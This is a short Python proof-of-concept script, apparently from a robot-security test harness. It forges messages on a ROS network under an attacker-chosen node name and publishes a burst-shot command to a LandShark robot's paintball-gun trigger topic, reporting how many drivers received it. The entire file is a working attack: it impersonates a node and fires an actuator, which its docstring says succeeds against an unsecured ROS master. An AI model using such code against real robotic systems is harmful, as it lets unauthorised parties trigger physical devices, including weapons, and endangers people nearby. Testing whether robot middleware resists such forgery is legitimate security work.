"""Publish triggers under a name of the attacker's choice: forger.py NAME

Prints `forged` with the number of drivers it reached within three seconds. Behind a plain master the gun fires.
"""

import sys
import threading

import rospy
from landshark_messages import paintball_trigger
from report import report

SECONDS = 3.0
PaintballTrigger = paintball_trigger()


class Reached(rospy.SubscribeListener):
    def __init__(self):
        self.somebody = threading.Event()

    def peer_subscribe(self, *_):
        self.somebody.set()


def main():
    rospy.init_node(sys.argv[1], disable_signals=True)
    reached = Reached()
    gun = rospy.Publisher("/landshark_control/trigger", PaintballTrigger, reached, queue_size=10)
    reached.somebody.wait(SECONDS)
    drivers = gun.get_num_connections()
    if drivers:
        gun.publish(PaintballTrigger(trigger=PaintballTrigger.BURST_SHOT))
    report("forged", drivers=drivers)
    rospy.signal_shutdown("done")


if __name__ == "__main__":
    main()
